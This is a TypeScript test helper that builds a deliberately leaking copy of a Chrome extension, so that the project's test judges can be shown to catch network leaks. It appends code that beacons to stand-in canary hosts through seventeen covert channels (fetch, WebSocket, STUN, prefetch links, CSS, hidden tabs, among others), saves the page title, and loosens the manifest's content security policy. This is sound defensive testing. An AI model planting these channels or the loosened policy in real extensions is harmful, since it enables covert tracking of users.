/**
 * A copy of the build that leaks through seventeen channels, all but one to a host of its own, and stores what it reads: the
 * proof that the journey's judges would see a leak. It must loosen its own policy first, for the real one stops the channels of the extension's own pages.
 */
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildDir } from './shipped-files.ts';

/** The host of a channel. */
const canaryOf = (channel: string): string => `${channel}.canary.test`;

const at = (channel: string, scheme = 'https') => `${scheme}://${canaryOf(channel)}/leak`;
const link = (channel: string, rel: string) => `{const l=document.createElement('link');l.rel='${rel}';l.href='${at(channel)}';document.head.append(l)}`;

/** What the twin asks of the visited page's own host. */
const OWN_HOST_LEAK = '/leak-to-own-host';
const OWN_HOST_CODE = `fetch('${OWN_HOST_LEAK}').catch(()=>{})`;

/** What a page script could do. */
const IN_PAGE: Record<string, string> = {
  'page-fetch': `fetch('${at('page-fetch')}',{mode:'no-cors'}).catch(()=>{})`,
  'page-xhr': `{const x=new XMLHttpRequest();x.open('GET','${at('page-xhr')}');x.send()}`,
  'page-beacon': `navigator.sendBeacon('${at('page-beacon')}','x')`,
  'page-image': `new Image().src='${at('page-image')}'`,
  'page-font': `new FontFace('leak',"url(${at('page-font')})").load().catch(()=>{})`,
  'page-socket': `try{new WebSocket('${at('page-socket', 'wss')}')}catch{}`,
  'page-events': `new EventSource('${at('page-events')}')`,
  'page-prefetch': link('page-prefetch', 'prefetch'),
  'page-frame': `{const f=document.createElement('iframe');f.src='${at('page-frame')}';document.body.append(f)}`,
  'page-preconnect': link('page-preconnect', 'preconnect'),
  'page-dns': link('page-dns', 'dns-prefetch'),
  'page-stun': `{const c=new RTCPeerConnection({iceServers:[{urls:'stun:${canaryOf('page-stun')}:3478'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}`,
  'page-style': `{const d=document.createElement('div');d.attachShadow({mode:'open'}).innerHTML='<p style="background:url(${at('page-style')})">x</p>';document.body.append(d)}`,
};

/** What a worker could do. */
const IN_WORKER: Record<string, string> = {
  'worker-fetch': `fetch('${at('worker-fetch')}',{mode:'no-cors'}).catch(()=>{})`,
  'worker-socket': `try{new WebSocket('${at('worker-socket', 'wss')}')}catch{}`,
  'worker-tab': `setTimeout(()=>chrome.tabs.create({url:'${at('worker-tab')}',active:false}),3000)`,
};

const TO_OWN_HOST = 'page-own-host';

/** All seventeen. */
export const CHANNELS: readonly string[] = [...Object.keys(IN_PAGE), TO_OWN_HOST, ...Object.keys(IN_WORKER)];

/** Whether a record, by its hosts and by its addresses on the visited hosts, shows a channel. */
export const isSeen = (channel: string, { hosts, addresses }: { hosts: ReadonlySet<string>; addresses: ReadonlySet<string> }): boolean =>
  channel === TO_OWN_HOST ? [...addresses].some((address) => address.includes(OWN_HOST_LEAK)) : hosts.has(canaryOf(channel));

/** Channels that the judge must have seen to be believed. */
export const LEAST_CAUGHT = 14;

/** The code of a channel without the address that it leaks to: what a ban list must know by its manner alone. */
export const codeOf = (channel: string): string =>
  ({ ...IN_PAGE, ...IN_WORKER, [TO_OWN_HOST]: OWN_HOST_CODE })[channel]?.replace(/\b(?:https|wss|stun):[^'")]*/g, 'u') ?? '';

/** Writes the twin into a folder. */
export function makeLeakingTwin(folder: string): void {
  cpSync(buildDir('chrome'), folder, { recursive: true });
  const append = (file: string, code: Record<string, string>) => {
    const path = join(folder, file);
    writeFileSync(path, `${readFileSync(path, 'utf8')}\n${Object.values(code).join(';\n')};`);
  };
  append('page.js', { ...IN_PAGE, ownHost: OWN_HOST_CODE, store: 'chrome.storage.local.set({ lastTitle: document.title })' });
  append('background.js', IN_WORKER);
  const manifest = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
  manifest.content_security_policy.extension_pages = "default-src * 'unsafe-inline'; script-src 'self'; connect-src *";
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
}
